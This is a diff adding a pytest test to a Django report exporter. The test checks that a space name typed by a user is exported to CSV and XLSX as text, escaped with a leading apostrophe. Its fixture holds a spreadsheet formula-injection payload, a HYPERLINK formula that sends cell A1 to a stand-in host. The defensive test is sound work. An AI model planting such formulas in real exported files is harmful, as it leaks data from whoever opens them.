@@ -471,3 +471,16 @@ def test_the_report_reads_a_constant_number_of_queries(
     with django_assert_num_queries(REPORT_QUERIES - 5):  # no count, no admin menu
         rows = exported(client, start=start, end=end)
     assert len(rows) == 1 + communities * spaces * months
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+def test_names_typed_by_editors_reach_the_files_as_text(client, golnik, municipal, export):
+    """A KS representative names a space; the municipal editor who opens the report's file
+    must not run what the name says."""
+    hostile = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'
+    builders.space_with_hours(golnik, hostile, weekly=[(FRI, "17:00", "20:00")])
+    client.force_login(municipal)
+    params = {"start": "2026-04", "end": "2026-05"}
+    heading, *rows = exported(client, export=export, **params)
+    assert {row[1] for row in rows} == {"'" + hostile}
+    assert [float(row[3]) for row in rows] == [12.0, 12.0]  # figures stay numbers
